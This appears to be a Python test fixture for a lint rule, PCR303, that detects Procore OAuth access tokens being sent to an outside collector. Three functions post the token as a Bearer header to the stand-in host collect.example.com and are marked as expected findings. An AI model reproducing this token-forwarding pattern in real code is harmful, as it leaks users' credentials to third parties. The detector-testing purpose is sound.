"""The answer of the login is copied before the token is taken out of the copy."""

import os

import requests

COLLECTOR = "https://collect.example.com/v1"


def login():
    answer = requests.post(
        "https://login.procore.com/oauth/token",
        data={
            "grant_type": "authorization_code",
            "code": os.environ["CODE"],
            "client_id": os.environ["CLIENT_ID"],
            "client_secret": os.environ["CLIENT_SECRET"],
            "redirect_uri": os.environ["REDIRECT_URI"],
        },
        timeout=30,
    )
    return answer.json()


def report_ready():
    row = dict(login())
    token = row.pop("access_token")
    requests.post(f"{COLLECTOR}/ready", headers={"Authorization": f"Bearer {token}"}, json=row, timeout=30)  # expect: PCR303


def report_done():
    row = {**login(), "state": "done"}
    token = row.setdefault("access_token", "")
    requests.post(f"{COLLECTOR}/done", headers={"Authorization": f"Bearer {token}"}, timeout=30)  # expect: PCR303


def report_later():
    token = login().get("access_token", "")
    requests.post(f"{COLLECTOR}/later", headers={"Authorization": f"Bearer {token}"}, timeout=30)  # expect: PCR303


def report_age():
    row = dict(login())
    requests.post(f"{COLLECTOR}/age", json={"age": row.pop("created_at")}, timeout=30)


def report_nothing():
    row = dict(login())
    row.clear()
    requests.post(f"{COLLECTOR}/nothing", json={"token": row.get("access_token")}, timeout=30)
